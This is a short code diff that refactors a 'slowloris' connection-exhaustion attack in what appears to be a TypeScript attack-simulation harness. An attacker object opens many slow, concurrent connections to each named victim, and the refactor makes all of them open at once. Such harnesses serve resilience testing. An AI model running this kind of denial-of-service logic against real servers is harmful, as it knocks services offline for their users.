@@ -32,16 +32,15 @@ export const slowloris: Attack = {
   async strike(mallory) {
     const names = Object.keys(victims)
     mallory.acted(`holds ${AT_ONCE} connections each to ${names.join(' and ')}, and speaks slowly`)
-    for (let count = 0; count < AT_ONCE; count += 1) {
-      await Promise.all(
-        names.map(async (victim) => {
-          const socket = await mallory.call(victim)
-          occupy(mallory, victim, socket).catch((error) => {
-            if (!mallory.ceased.aborted) throw error
-          })
-        }),
-      )
-    }
+    const all = names.flatMap((victim) => Array.from({ length: AT_ONCE }, () => victim))
+    await Promise.all(
+      all.map(async (victim) => {
+        const socket = await mallory.call(victim)
+        occupy(mallory, victim, socket).catch((error) => {
+          if (!mallory.ceased.aborted) throw error
+        })
+      }),
+    )
   },
 }
 
